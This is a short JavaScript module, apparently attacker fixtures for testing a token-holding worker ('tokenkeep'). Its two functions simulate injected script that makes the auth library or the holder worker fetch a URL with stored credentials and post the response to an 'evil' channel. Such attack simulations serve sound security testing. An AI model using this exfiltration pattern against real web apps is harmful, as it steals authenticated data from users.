/** Runs in the page: has the library fetch what it may, and sends the answer to the attacker. */
export async function callLibrary(evil, { url }) {
  const answer = await app.auth.fetch(url);
  await evil.post(await answer.text());
}

/**
 * Runs in any document of the origin: starts or joins the holder as the app does, speaks to it without the library, and
 * sends the attacker the answer to a request for `url`.
 */
export async function callHolder(evil, { url, mode }) {
  const options = { type: "module", name: "tokenkeep", extendedLifetime: true };
  const port = mode === "shared" ? new SharedWorker("/holder.js", options).port : new Worker("/holder.js", options);
  const { ok, error } = await new Promise((resolve) => {
    port.onmessage = ({ data }) => data.id === 1 && resolve(data);
    port.postMessage({ v: 1, id: 1, op: "fetch", url, headers: [] });
  });
  await evil.post(ok ? new TextDecoder().decode(ok.body) : error.code);
}
